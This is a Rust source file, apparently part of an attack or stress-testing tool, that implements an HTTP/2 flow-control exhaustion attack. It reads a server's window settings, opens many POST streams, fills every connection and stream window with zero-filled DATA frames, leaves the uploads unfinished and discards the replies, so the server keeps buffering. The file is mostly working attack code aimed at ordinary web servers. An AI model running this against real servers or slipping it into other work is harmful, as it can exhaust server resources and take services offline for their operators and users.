//! Uploads that nobody takes.

use tokio::io::{self, sink, split};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use super::Attacker;
use crate::hosting::frames::{
    DATA, Frame, SETTINGS, WINDOW_UPDATE, block, frame, headers, preface, read,
};

impl Attacker {
    /// Sends bodies until the windows of the connection and of its streams are full.
    pub(super) async fn full_windows(&self, stream: TlsStream<TcpStream>) -> io::Result<()> {
        let (mut from, mut to) = split(stream);
        self.write(&mut to, &preface(65_535), 1).await?;
        let mut windows = Windows::default();
        while windows.each == 0 || windows.all <= FIRST_WINDOW {
            windows.note(&read(&mut from).await?);
        }
        let fields = block(&[
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", &self.target.host),
            (":path", &self.target.path),
        ]);
        let piece = vec![0; PIECE];
        let writing = async {
            for stream in (1..2 * super::frames::STREAMS).step_by(2) {
                if windows.all < PIECE {
                    break;
                }
                self.write(&mut to, &headers(stream, 0, &fields), 1).await?;
                for _ in 0..windows.each.min(windows.all) / PIECE {
                    let data = frame(DATA, 0, stream, &piece);
                    self.write(&mut to, &data, 1).await?;
                    windows.all -= PIECE;
                }
            }
            std::future::pending().await
        };
        let mut nowhere = sink();
        tokio::select! {
            ended = writing => ended,
            ended = io::copy(&mut from, &mut nowhere) => ended.map(drop),
        }
    }
}

/// Bytes that the server lets a client send.
#[derive(Default)]
struct Windows {
    /// On each stream.
    each: usize,
    /// On all streams.
    all: usize,
}

impl Windows {
    /// Notes windows that the server announces before the first request (RFC 9113,
    /// section 6.9).
    fn note(&mut self, seen: &Frame) {
        let value = |bytes: &[u8]| {
            bytes
                .iter()
                .fold(0, |sum, byte| sum << 8 | usize::from(*byte))
        };
        match seen.kind {
            SETTINGS => {
                let mut settings = seen.payload.chunks(6);
                let window = settings.rfind(|setting| setting[..2] == [0, 4]);
                self.each = window.map_or(self.each, |setting| value(&setting[2..]));
            }
            WINDOW_UPDATE if seen.stream == 0 => {
                self.all = self.all.max(FIRST_WINDOW) + value(&seen.payload);
            }
            _ => {}
        }
    }
}

/// Window of a connection before the first update.
const FIRST_WINDOW: usize = 65_535;
/// Bytes of a frame.
const PIECE: usize = 16 << 10;
